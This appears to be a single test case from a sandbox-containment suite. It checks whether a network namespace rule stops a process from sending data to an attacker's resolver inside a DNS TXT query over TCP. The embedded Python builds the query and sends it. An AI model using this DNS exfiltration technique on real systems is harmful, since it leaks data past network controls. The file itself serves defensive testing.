ID = 'dns.tcp-resolver'
CATEGORY = 'dns'
DESCRIPTION = "DNS over TCP straight to the attacker's resolver, data in a TXT query"
CLAIMS = ('rule:network (namespace)',)
CODE = r"""
q = b"\xab\xcd\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(
    bytes([len(p)]) + p.encode() for p in f"{DATA}.tcp.{DOMAIN}".split(".")) + b"\x00\x00\x10\x00\x01"
try:
    with socket.create_connection((DNS_HOST, DNS_PORT), timeout=2) as s:
        s.sendall(len(q).to_bytes(2, "big") + q); s.recv(512)
    out("ALLOWED", "the resolver answered over TCP")
except OSError as e:
    out("DENIED", f"tcp/{DNS_PORT}: {ename(e)}")
"""
CONTROL = 'host'
CONTAINED = 'no query with the data reaches the DNS sink'
